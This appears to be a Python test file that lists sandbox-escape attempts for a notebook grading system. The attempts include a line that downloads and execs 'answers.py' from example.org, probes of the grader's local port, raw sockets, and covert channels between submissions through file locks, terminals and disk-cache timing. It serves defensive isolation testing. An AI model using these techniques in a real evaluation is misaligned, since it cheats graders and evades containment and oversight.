"""Network: there is none, not even to the machine itself; nor does anybody notice another by what all share."""

from attacks.notebooks import TRIED, Attack

FILES = TRIED + "import json, time\nfiles = [json.__file__, torch.__file__, os.__file__, '/dev/null', '/tmp']\n"

ATTACKS = (
    Attack("the instructor's port", "talk to a process that listens beside the grader", TRIED + """
tried('', lambda: socket.create_connection(('127.0.0.1', 45454), timeout=0.5).recv(100))
""", rich=True),
    Attack("abstract socket", "talk to a process of the machine by name", TRIED + """
talk = socket.socket(socket.AF_UNIX)
talk.settimeout(0.5)
tried('', lambda: talk.connect('\\0attack-canary'), lambda: talk.recv(100))
""", rich=True),
    Attack("download", "fetch the answers", TRIED + """
import urllib.request
tried('', lambda: exec(urllib.request.urlopen('http://example.org/answers.py', timeout=1).read(), globals()))
"""),
    Attack("raw sockets", "listen to the network", TRIED + """
for kind in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (16, 3, 0), (38, 5, 0)):
    tried('', lambda: socket.socket(*kind))
"""),
    Attack("a word by a lock", "talk to the submission beside by locks on the machine's files", FILES + """
held = []
for path in files:
    held.append(open(path, 'r+b') if path == '/dev/null' else os.open(path, os.O_RDONLY))
    for take in (lambda: fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB),
                 lambda: fcntl.lockf(held[-1], fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 4711)):
        try:
            take()
        except OSError as error:
            print('CANARY-TAKEN' if error.errno == 11 else error)
    tried('CANARY-ASKED', lambda: fcntl.fcntl(held[-1], fcntl.F_GETLK, bytes(32)))
    child = os.fork()
    if not child:
        try:
            fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            os._exit(1)
        os._exit(0)
    if os.wait()[1]:
        print('CANARY-LOCKED', path)
""", rich=True),
    Attack("other families", "talk past the network namespace", TRIED + """
for family in (*range(3, 16), *range(17, 64)):
    for kind in (1, 2, 3, 5):
        tried('CANARY-FAMILY', lambda: socket.socket(family, kind))
tried('CANARY-VSOCK', lambda: socket.socket(40, 1).bind((2**32 - 1, 4711)))
"""),
    Attack("a shared terminal", "talk to the submission beside by a terminal", TRIED + """
tried('CANARY-TERMINAL', lambda: os.ttyname(os.openpty()[1]))
print(*('CANARY-TERMINAL' for name in os.listdir('/dev/pts') if name.isdigit()))
"""),
    Attack("cold files", "have others read from the disk again, and wait for it", FILES + """
end = time.monotonic() + 1
while time.monotonic() < end:
    for path in files[:3]:
        file = os.open(path, os.O_RDONLY)
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
        os.close(file)
    os.sync()
""", rich=True),
)  # fmt: skip
